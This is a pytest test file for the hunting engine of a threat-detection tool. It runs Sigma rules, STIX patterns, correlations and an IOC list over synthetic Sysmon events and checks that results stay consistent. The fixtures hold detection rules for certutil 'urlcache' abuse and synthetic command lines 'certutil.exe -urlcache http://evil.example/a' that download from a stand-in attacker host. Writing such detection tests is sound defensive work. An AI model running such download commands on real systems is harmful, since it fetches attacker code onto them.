"""Hunts over files and lakes."""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta
from itertools import pairwise
from pathlib import Path
from typing import Any

import orjson
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from aleat.errors import Place
from aleat.evidence import ReadOptions
from aleat.evidence.ingest import ingest
from aleat.hunt.compiler import compile_plan
from aleat.hunt.drive import hunt_lake, hunt_paths
from aleat.hunt.indicator import Indicator, ListEntry, Sighting
from aleat.hunt.output import sighting_line
from aleat.hunt.plan import Plan
from aleat.hunt.result import HuntProgress, HuntResult
from aleat.store.database import Database
from aleat.store.lake import Lake
from aleat.trust.keys import SigningKey

START = datetime(2022, 7, 15, 8, tzinfo=UTC)
HOSTS = ("PC1", "PC2", "DC1")
PROGRAMS = ("whoami.exe", "notepad.exe", "mal.exe", "certutil.exe")


def rule(name: str, detection: str, extra: str = "") -> Indicator:
    text = (
        f"title: {name}\nid: {name}\nstatus: test\nlogsource: {{product: windows, category: process_creation}}\n"
        f"detection:\n  selection: {detection}\n  condition: selection\nlevel: high\n{extra}"
    )
    return sigma(name, text)


def sigma(name: str, text: str) -> Indicator:
    return Indicator(
        name, f"indicator--{name}", f"digest {name}", "sigma", text, name, "cert-x", Place(f"{name}.yml"), "high"
    )


def pattern(name: str, text: str) -> Indicator:
    return Indicator(name, f"indicator--{name}", f"digest {name}", "stix", text, name, "cert-x", Place("pack.json"))


WHOAMI = rule("whoami", "{CommandLine|contains: whoami}")
CERTUTIL = rule("certutil", "{Image|endswith: '\\certutil.exe', CommandLine|contains: urlcache}")
OFTEN = sigma(
    "often",
    "title: often\nid: often\ncorrelation:\n  type: event_count\n  rules: [whoami]\n  group-by: [Computer]\n"
    "  timespan: 5m\n  condition: {gte: 2}\n  generate: true\nlevel: critical\n",
)
LIST = Indicator(
    "list--1",
    "indicator--list",
    "digest list",
    "aleat-list",
    "",
    "C2",
    "cert-y",
    Place("c2.csv"),
    entries=(ListEntry("domain-name", "evil.example"), ListEntry("ipv4-addr", "8.8.8.8")),
)
SINGLE = pattern("single", "[file:name = 'mal.exe' OR url:value = 'http://evil.example/a']")
CHAIN = pattern("chain", "([process:name = 'certutil.exe'] FOLLOWEDBY [process:name = 'mal.exe']) WITHIN 600 SECONDS")
ALL = (WHOAMI, CERTUTIL, OFTEN, LIST, SINGLE, CHAIN)


def event(number: int, host: str, program: str, minute: int) -> dict[str, Any]:
    time = START + timedelta(minutes=minute, seconds=number)
    command = f"{program} -urlcache http://evil.example/a" if program == "certutil.exe" else f"{program} /c {number}"
    return {
        "Event": {
            "System": {
                "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}},
                "EventID": 1,
                "TimeCreated": {"#attributes": {"SystemTime": time.strftime("%Y-%m-%dT%H:%M:%S.%fZ")}},
                "EventRecordID": number,
                "Channel": "Microsoft-Windows-Sysmon/Operational",
                "Computer": host,
            },
            "EventData": {"Image": f"C:\\Temp\\{program}", "CommandLine": command, "ProcessId": number},
        }
    }


EVENTS = [
    event(number, HOSTS[number * 7 % 3], PROGRAMS[number * number % 4 if number % 3 else number % 4], number * 2 // 3)
    for number in range(60)
]


def write(folder: Path, events: Sequence[dict[str, Any]], cuts: Sequence[int] = ()) -> Path:
    """Write events as JSON lines, one file for each part between two cuts."""
    folder.mkdir(parents=True, exist_ok=True)
    edges = [0, *sorted(cuts), len(events)]
    for part, (start, stop) in enumerate(pairwise(edges)):
        lines = b"".join(orjson.dumps(item) + b"\n" for item in events[start:stop])
        if lines:
            (folder / f"part{part:03}.json").write_bytes(lines)
    return folder


def lines(result: HuntResult) -> list[bytes]:
    return [sighting_line(item) for item in result.sightings]


def facts(result: HuntResult) -> list[tuple[Any, ...]]:
    """What was found, whatever file and record it stood in."""
    return sorted(
        (item.indicator, item.event, len(item.parts or ()), tuple(part.event for part in item.parts or ()))
        for item in result.sightings
    )


@pytest.fixture
def lake(tmp_path: Path) -> Iterator[tuple[Lake, Database]]:
    database = Database.at(tmp_path / "aleat.db")
    database.create_tables()
    yield Lake(tmp_path / "lake", database), database
    database.close()


def add(lake: Lake, folder: Path, *, day: int = 1, range_bytes: int = 4096) -> None:
    ingest(
        [folder],
        lake,
        actor="arta",
        time=datetime(2022, 8, day, tzinfo=UTC),
        key=SigningKey.generate(),
        given_by="victim",
        options=ReadOptions(range_bytes=range_bytes),
    )


def hunt(place: tuple[Lake, Database], plan: Plan, day: int = 1, **options: Any) -> HuntResult:
    lake, database = place
    return hunt_lake(lake, database, plan, time=datetime(2022, 8, day, tzinfo=UTC), actor="arta", **options)


def test_rules_lists_patterns_and_correlations_are_all_hunted(tmp_path: Path) -> None:
    result = hunt_paths([write(tmp_path / "logs", EVENTS)], compile_plan(ALL))
    found = {item.indicator for item in result.sightings}
    assert found == {"whoami", "certutil", "often", "list--1#evil.example", "single", "chain"}
    assert all(item.parts for item in result.sightings if item.indicator in {"often", "chain"})
    assert (result.events, result.issues) == (60, ())
    assert result.not_evaluated == ()
    assert (result.rules.loaded, result.rules.evaluated, result.rules.fired) == (6, 6, 6)
    assert result.tally.sightings == len(result.sightings)


def test_a_filter_that_names_a_correlation_labels_it(tmp_path: Path) -> None:
    """By its last event, as a dismissal does; one for any rule of a log source doesn't mean correlations."""
    write(tmp_path / "logs", EVENTS)
    text = "title: f\nlogsource: {product: windows}\nfilter:\n  s: {Computer: DC1}\n  condition: s\n  rules: "
    for rules, wanted in (("[often]", {"DC1"}), ("any", set())):
        plan = compile_plan([WHOAMI, OFTEN, sigma("f", text + rules)])
        found = [one for one in hunt_paths([tmp_path / "logs"], plan).sightings if one.indicator == "often"]
        assert found
        assert {one.host for one in found if one.hidden_by} == wanted


def test_records_are_numbered_through_a_source_that_was_cut(tmp_path: Path) -> None:
    folder = write(tmp_path / "logs", EVENTS)
    whole = hunt_paths([folder], compile_plan(ALL))
    cut = hunt_paths([folder], compile_plan(ALL), options=ReadOptions(range_bytes=1024))
    assert cut.segments > 3
    assert lines(cut) == lines(whole)
    places = {(item.record, item.offset) for item in whole.sightings if item.indicator == "single"}
    data = (folder / "part000.json").read_bytes()
    for record, offset in places:
        row = orjson.loads(data[offset:].split(b"\n", 1)[0])
        assert row["Event"]["System"]["EventRecordID"] == record


@settings(deadline=None, max_examples=12, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.lists(st.integers(0, 60), max_size=3),
    st.sampled_from([700, 2048, 1 << 20]),
    st.permutations(range(12)),
)
def test_files_ranges_and_order_make_no_difference(
    tmp_path_factory: pytest.TempPathFactory, cuts: list[int], range_bytes: int, order: list[int]
) -> None:
    folder = tmp_path_factory.mktemp("logs")
    shuffled = [EVENTS[block * 5 + at] for block in order for at in range(5)]
    expected = hunt_paths([write(folder / "a", EVENTS)], compile_plan(ALL))
    found = hunt_paths(
        [write(folder / "b", shuffled, cuts)], compile_plan(ALL), options=ReadOptions(range_bytes=range_bytes)
    )
    assert facts(found) == facts(expected)
    assert found.tally.by_host == expected.tally.by_host


def test_workers_make_no_difference(tmp_path: Path, lake: tuple[Lake, Database]) -> None:
    folder = write(tmp_path / "logs", EVENTS, [20, 40])
    plan = compile_plan(ALL)
    alone = hunt_paths([folder], plan)
    assert lines(hunt_paths([folder], plan, workers=2)) == lines(alone)
    with ThreadPoolExecutor(1) as executor:
        assert lines(hunt_paths([folder], plan, executor=executor)) == lines(alone)
    add(lake[0], folder)
    assert lines(hunt(lake, plan)) == lines(alone)


def test_threads_of_one_executor_take_turns(tmp_path: Path) -> None:
    """As a cluster's workers can have several."""
    folder = write(tmp_path / "logs", EVENTS, range(1, 60))
    copies = [write(tmp_path / f"copy{number}", EVENTS, range(1, 60)) for number in range(3)]
    plan = compile_plan(ALL)
    alone = hunt_paths([folder, *copies], plan)
    with ThreadPoolExecutor(3) as executor:
        assert lines(hunt_paths([folder, *copies], plan, executor=executor, workers=3)) == lines(alone)


def test_a_worker_that_cannot_see_a_file_says_so(tmp_path: Path) -> None:
    """Each part that it was to read is named; the rest is hunted."""

    class Elsewhere(ThreadPoolExecutor):
        """Executes jobs when the file has gone."""

        def submit(self, *call: Any, **options: Any) -> Any:
            (folder / "part000.json").unlink(missing_ok=True)
            return super().submit(*call, **options)

    folder = write(tmp_path / "logs", EVENTS, [30])
    with Elsewhere(1) as executor:
        result = hunt_paths([folder], compile_plan(ALL), executor=executor)
    (issue,) = result.issues
    assert (issue.code, Path(issue.place.path).name) == ("not-hunted", "part000.json")
    assert "the same paths" in issue.advice
    assert result.events == 30


def test_an_executor_that_hunted_another_plan_hunts_this_one(tmp_path: Path) -> None:
    folder = write(tmp_path / "logs", EVENTS)
    with ThreadPoolExecutor(1) as executor:
        hunt_paths([folder], compile_plan([CERTUTIL]), executor=executor)
        result = hunt_paths([folder], compile_plan([WHOAMI]), executor=executor)
    assert {item.indicator for item in result.sightings} == {"whoami"}


def test_increments_of_rules_and_evidence_give_what_one_hunt_gives(tmp_path: Path, lake: tuple[Lake, Database]) -> None:
    add(lake[0], write(tmp_path / "one", EVENTS[:30]))
    hunt(lake, compile_plan([WHOAMI, LIST]), 1)
    add(lake[0], write(tmp_path / "two", EVENTS[30:]), day=2)
    hunt(lake, compile_plan([WHOAMI, CHAIN]), 2)
    last = hunt(lake, compile_plan(ALL), 3)
    whole = hunt_paths([tmp_path / "one", tmp_path / "two"], compile_plan(ALL))
    assert lines(last) == lines(whole)
    assert last.coverage == whole.coverage
    assert last.not_evaluated == whole.not_evaluated


def test_a_copy_of_a_file_is_hunted_as_if_it_were_read(tmp_path: Path, lake: tuple[Lake, Database]) -> None:
    folder = write(tmp_path / "logs", EVENTS, [30])
    (folder / "part002.json").write_bytes((folder / "part000.json").read_bytes())
    add(lake[0], folder)
    kept, alone = hunt(lake, compile_plan(ALL)), hunt_paths([folder], compile_plan(ALL))
    assert lines(kept) == lines(alone)
    assert (kept.events, kept.coverage) == (alone.events, alone.coverage)


def test_nothing_is_hunted_twice(tmp_path: Path, lake: tuple[Lake, Database]) -> None:
    add(lake[0], write(tmp_path / "logs", EVENTS))
    first = hunt(lake, compile_plan(ALL), 1)
    again = hunt(lake, compile_plan(ALL), 2)
    assert first.segments > 0
    assert again.segments == 0
    assert lines(again) == lines(first)
    assert again.not_evaluated == first.not_evaluated


def test_new_rules_need_no_logs(tmp_path: Path, lake: tuple[Lake, Database]) -> None:
    folder = write(tmp_path / "logs", EVENTS)
    add(lake[0], folder)
    hunt(lake, compile_plan([WHOAMI]), 1)
    (folder / "part000.json").unlink()
    result = hunt(lake, compile_plan([WHOAMI, SINGLE]), 2)
    assert {item.indicator for item in result.sightings} == {"whoami", "single"}


def test_as_of_shows_what_was_known_then(tmp_path: Path, lake: tuple[Lake, Database]) -> None:
    add(lake[0], write(tmp_path / "logs", EVENTS))
    hunt(lake, compile_plan([WHOAMI]), 1)
    hunt(lake, compile_plan([WHOAMI, SINGLE]), 5)
    past = hunt(lake, compile_plan([WHOAMI, SINGLE]), 9, as_of=datetime(2022, 8, 2, tzinfo=UTC))
    assert {item.indicator for item in past.sightings} == {"whoami"}
    before = hunt(lake, compile_plan([WHOAMI]), 9, as_of=datetime(2022, 7, 1, tzinfo=UTC))
    assert before.sightings == ()


def test_one_rule_from_two_givers_is_found_under_both_names(tmp_path: Path, lake: tuple[Lake, Database]) -> None:
    add(lake[0], write(tmp_path / "logs", EVENTS))
    hunt(lake, compile_plan([SINGLE]), 1)
    other = Indicator("single-2", "indicator--2", SINGLE.digest, "stix", SINGLE.pattern, "same", "cert-z", SINGLE.place)
    result = hunt(lake, compile_plan([SINGLE, other]), 2)
    assert result.segments == 0
    assert {(item.indicator, item.source) for item in result.sightings} == {
        ("single", "cert-x"),
        ("single-2", "cert-z"),
    }
    assert lines(result) == lines(hunt_paths([tmp_path / "logs"], compile_plan([SINGLE, other])))


def test_a_hunt_that_is_stopped_goes_on_where_it_was(tmp_path: Path, lake: tuple[Lake, Database]) -> None:
    add(lake[0], write(tmp_path / "logs", EVENTS, range(1, 60)))
    plan = compile_plan(ALL)

    def stop(progress: HuntProgress) -> None:
        if progress.done == 40:
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        hunt(lake, plan, 1, progress=stop)
    rest = hunt(lake, plan, 2)
    assert 0 < rest.segments < 60
    assert facts(rest) == facts(hunt_paths([tmp_path / "logs"], plan))


def test_what_cannot_be_read_is_an_issue_and_the_rest_goes_on(tmp_path: Path) -> None:
    folder = write(tmp_path / "logs", EVENTS)
    (folder / "broken.evtx").write_bytes(b"this is text")
    (folder / "part000.json").write_bytes((folder / "part000.json").read_bytes() + b'{"Event": {"System": {"Eve')
    result = hunt_paths([folder, tmp_path / "absent"], compile_plan(ALL))
    assert {Path(issue.place.path).name for issue in result.issues} >= {"broken.evtx", "part000.json", "absent"}
    assert {item.indicator for item in result.sightings} >= {"whoami", "single"}


def test_a_sink_takes_the_sightings_as_they_come(tmp_path: Path) -> None:
    taken: list[Sighting] = []
    folder = write(tmp_path / "logs", EVENTS)
    result = hunt_paths([folder], compile_plan(ALL), sink=taken.append)
    assert result.sightings == ()
    assert taken == list(hunt_paths([folder], compile_plan(ALL)).sightings)
    assert result.tally.sightings == len(taken)


def test_progress_ends_at_all_of_it(tmp_path: Path) -> None:
    seen: list[HuntProgress] = []
    hunt_paths([write(tmp_path / "logs", EVENTS, [10])], compile_plan(ALL), progress=seen.append)
    hunted = [item for item in seen if item.phase == "hunt"]
    assert hunted[-1].done == hunted[-1].total > 0
    assert hunted[-1].events == 60


@pytest.mark.data
def test_real_evidence_gives_the_same_from_a_lake_and_with_workers(
    tmp_path: Path, test_data: Path, lake: tuple[Lake, Database]
) -> None:
    samples = test_data / "sigma" / "regression_data" / "rules" / "windows" / "process_creation"
    folders = sorted(folder for folder in samples.iterdir() if "certutil" in folder.name)
    plan = compile_plan(ALL)
    alone = hunt_paths(folders, plan)
    assert alone.events > 0
    for folder in folders:
        add(lake[0], folder, range_bytes=1 << 24)
    kept = hunt(lake, plan)
    assert lines(kept) == lines(alone)
    assert kept.coverage.hosts == alone.coverage.hosts
